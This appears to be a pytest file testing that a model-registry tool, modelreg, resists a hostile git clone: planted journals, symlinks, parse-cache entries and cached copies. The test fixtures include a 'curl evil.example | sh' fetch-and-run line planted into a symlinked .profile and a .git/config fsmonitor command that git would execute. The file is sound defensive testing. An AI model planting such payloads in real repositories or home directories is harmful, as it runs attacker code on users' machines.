"""Issue 10, a hostile clone: everything under the registry, ``.modelreg/`` included, may come
from someone else, and none of it may make modelreg write where it should not, run a command,
or read something other than what the tracked files say.

Each test builds the attacker's registry repository (a registry at the repository root, its
blobs on a directory remote beside it), plants something under ``.modelreg/`` and commits it
(``git add -f``: a checkout or an archive carries it like any file), and the victim works in a
real ``git clone`` of it.
"""

from __future__ import annotations

import hashlib
import json
import marshal
import tomllib
from collections.abc import Callable
from pathlib import Path
from typing import Any

import yaml
from support.guarantees import audit_entries, doc, files_under, git, mr, no_bug
from support.results import ok

Plant = Callable[[Path], list[str]]  # writes files into the attacker's registry; returns what to commit


def _hostile_clone(tmp_path: Path, make_file: Any, plant: Plant) -> Path:
    attacker = tmp_path / "attacker"
    ok(mr("init", attacker))
    toml = attacker / "modelreg.toml"
    head, _, _ = toml.read_text().partition("[remote]")
    toml.write_text(head + '[remote]\nurl = "../remote"\npush_on_register = false\n')
    (tmp_path / "remote").mkdir()  # a directory remote must exist: push never creates it
    model = make_file(tmp_path / "train" / "model.bin", "the real weights\n" * 64)
    ok(mr("register", "-R", attacker, "m", model, "--metric", "acc=0.5"))
    ok(mr("push", "-R", attacker))
    origin = tmp_path / "origin.git"
    git("init", "-q", "--bare", "-b", "main", origin, cwd=tmp_path)
    git("init", "-q", "-b", "main", cwd=attacker)
    git("add", "-A", cwd=attacker)
    planted = plant(attacker)
    git("add", "-f", *planted, cwd=attacker)
    git("commit", "-q", "-m", "a registry, and a little more", cwd=attacker)
    git("remote", "add", "origin", origin, cwd=attacker)
    git("push", "-q", "origin", "main", cwd=attacker)
    victim = tmp_path / "victim"
    git("clone", "-q", origin, victim, cwd=tmp_path)
    for rel in planted:
        assert (victim / rel).exists() or (victim / rel).is_symlink(), f"{rel} did not come with the clone"
    return victim


def _journal(root: Path, writes: dict[str, str], records: list[dict[str, Any]] | None = None) -> list[str]:
    """A journal of an 'interrupted change' of m, in the on-disk form modelreg writes."""
    path = root / ".modelreg" / "journal" / "m.json"
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(json.dumps({"txn": "a" * 24, "model": "m", "writes": writes, "records": records or []}))
    return [".modelreg/journal/m.json"]


def _victim_works(victim: Path, make_file: Any, tmp_path: Path) -> None:
    """What a victim does in a fresh clone: every command that finishes interrupted changes."""
    new_model = make_file(tmp_path / "victim-train" / "model.bin", "the victim's weights\n" * 64)
    for args in (
        ("verify",),
        ("gc",),
        ("annotate", "m", "--description", "checked"),
        ("promote", "m@1", "staging"),
        ("register", "m", new_model),
        ("register", "m", new_model, "--tag", "again=1"),
    ):
        no_bug(mr(*args, "-R", victim, cwd=victim))


def test_a_committed_journal_cannot_rewrite_the_config(tmp_path: Path, make_file: Any) -> None:
    evil_toml = 'format_version = 1\n\n[remote]\nurl = "../evil-remote"\npush_on_register = true\n'
    victim = _hostile_clone(tmp_path, make_file, lambda root: _journal(root, {"modelreg.toml": evil_toml}))
    config = (victim / "modelreg.toml").read_bytes()
    _victim_works(victim, make_file, tmp_path)
    assert (victim / "modelreg.toml").read_bytes() == config, "the planted journal replaced modelreg.toml"
    assert not (tmp_path / "evil-remote").exists()


def test_a_committed_journal_cannot_forge_history(tmp_path: Path, make_file: Any) -> None:
    forged = {
        "time": "2030-01-01T00:00:00.000000Z",
        "actor": "mallory",
        "action": "promote",
        "model": "m",
        "version": 1,
        "from_stage": "development",
        "to_stage": "production",
        "reason": "approved by the board",
    }
    stages = "format_version: 1\nname: m\nversions:\n  1: production\n"
    victim = _hostile_clone(
        tmp_path, make_file, lambda root: _journal(root, {"models/m/stages.yaml": stages}, [forged])
    )
    _victim_works(victim, make_file, tmp_path)
    by_mallory = [e for e in audit_entries(victim) if e.get("actor") == "mallory"]
    assert by_mallory == [], f"the planted journal put entries into the log: {by_mallory}"
    versions = doc(mr("list", "m", "-R", victim, "--json"))["versions"]
    assert versions[0]["stage"] != "production", "the planted journal promoted m@1"


def test_a_committed_journal_cannot_write_outside_through_a_symlink(tmp_path: Path, make_file: Any) -> None:
    outside = tmp_path / "home-of-the-victim"
    outside.mkdir()
    (outside / ".profile").write_text("# the victim's own file\n")
    before = files_under(outside)

    def plant(root: Path) -> list[str]:
        (root / "models" / "docs").symlink_to(outside)  # a committed symlink, pointing out of the registry
        return ["models/docs", *_journal(root, {"models/docs/.profile": "curl evil.example | sh\n"})]

    victim = _hostile_clone(tmp_path, make_file, plant)
    _victim_works(victim, make_file, tmp_path)
    assert files_under(outside) == before, f"written outside the registry: {sorted(files_under(outside))}"


def test_a_committed_journal_cannot_write_git_config(tmp_path: Path, make_file: Any) -> None:
    marker = tmp_path / "PAYLOAD-RAN"
    payload = (
        "[core]\n\trepositoryformatversion = 0\n\tbare = false\n"
        f'\tfsmonitor = "touch {marker}; false"\n'  # git runs this on `git status`
    )
    victim = _hostile_clone(tmp_path, make_file, lambda root: _journal(root, {".git/config": payload}))
    git_config = (victim / ".git" / "config").read_bytes()
    _victim_works(victim, make_file, tmp_path)  # register records the git state: modelreg runs git status
    assert not marker.exists(), "the planted journal's .git/config made modelreg's git call run a command"
    assert (victim / ".git" / "config").read_bytes() == git_config


def _plant_parsed(root: Path, raw: bytes, value: Any) -> list[str]:
    """A parse-cache entry for ``raw`` (the bytes of a tracked file) holding ``value``."""
    key = hashlib.blake2b(raw, digest_size=16).hexdigest()
    path = root / ".modelreg" / "cache" / "parsed" / key[:2] / key
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(marshal.dumps(value))
    return [path.relative_to(root).as_posix()]


def test_a_planted_parse_cache_entry_cannot_change_the_remote(tmp_path: Path, make_file: Any) -> None:
    def plant(root: Path) -> list[str]:
        raw = (root / "modelreg.toml").read_bytes()
        config = tomllib.loads(raw.decode())
        config["remote"]["url"] = "../evil-remote"
        return _plant_parsed(root, raw, config)

    victim = _hostile_clone(tmp_path, make_file, plant)
    new_model = make_file(tmp_path / "victim-train" / "model.bin", "the victim's weights\n" * 64)
    no_bug(mr("register", "m", new_model, "--push", "-R", victim))
    no_bug(mr("pull", "-R", victim))
    assert not (tmp_path / "evil-remote").exists(), "modelreg used the remote of a planted cache entry"
    pushed = doc(mr("push", "-R", victim, "--json"))
    assert Path(pushed["remote"]) == tmp_path / "remote"


def test_a_planted_parse_cache_entry_cannot_change_a_manifest(tmp_path: Path, make_file: Any) -> None:
    def plant(root: Path) -> list[str]:
        raw = (root / "models" / "m" / "versions" / "1.yaml").read_bytes()
        manifest = yaml.safe_load(raw)
        manifest["metrics"]["acc"] = 0.99
        return _plant_parsed(root, raw, manifest)

    victim = _hostile_clone(tmp_path, make_file, plant)
    shown = doc(mr("show", "m@1", "-R", victim, "--json"))
    assert shown["metrics"] == {"acc": 0.5}, f"show read a planted cache entry: {shown['metrics']}"
    ok(mr("promote", "m@1", "production", "-R", victim))
    assert doc(mr("get-production", "m", "-R", victim, "--json"))["metrics"] == {"acc": 0.5}


def test_planted_marshal_bytes_cannot_make_a_good_file_unreadable(tmp_path: Path, make_file: Any) -> None:
    """marshal is not for untrusted bytes: a planted entry (here a code object) for the bytes
    of a good modelreg.toml must not change the outcome of reading it."""

    def plant(root: Path) -> list[str]:
        return _plant_parsed(root, (root / "modelreg.toml").read_bytes(), compile("1 + 1", "planted", "eval"))

    victim = _hostile_clone(tmp_path, make_file, plant)
    listed = doc(mr("list", "-R", victim, "--json"))
    assert [m["name"] for m in listed["models"]] == ["m"]


def test_a_planted_cached_copy_is_never_reported_as_the_versions_files(tmp_path: Path, make_file: Any) -> None:
    real = "the real weights\n" * 64
    fake = "EVIL weights!!!\n\n" * 64
    assert len(fake) == len(real)

    def plant(root: Path) -> list[str]:
        version = doc(mr("show", "m@1", "-R", root, "--json"))
        ok(mr("promote", "m@1", "production", "-R", root))
        copy = root / ".modelreg" / "cache" / "versions" / version["digest"].removeprefix("sha256:")
        copy.mkdir(parents=True)
        (copy / "model.bin").write_text(fake)
        git("add", "-A", cwd=root)
        return [(copy / "model.bin").relative_to(root).as_posix()]

    victim = _hostile_clone(tmp_path, make_file, plant)
    proc = mr("get-production", "m", "-R", victim, "--json")
    no_bug(proc)
    reported = json.loads(proc.stdout)["path"] if proc.returncode == 0 else None
    if reported is not None:
        assert (Path(reported) / "model.bin").read_text() == real, f"--json reported the planted copy {reported}"
    served = ok(mr("get-production", "m", "-R", victim, "--path")).stdout.strip()
    assert (Path(served) / "model.bin").read_text() == real
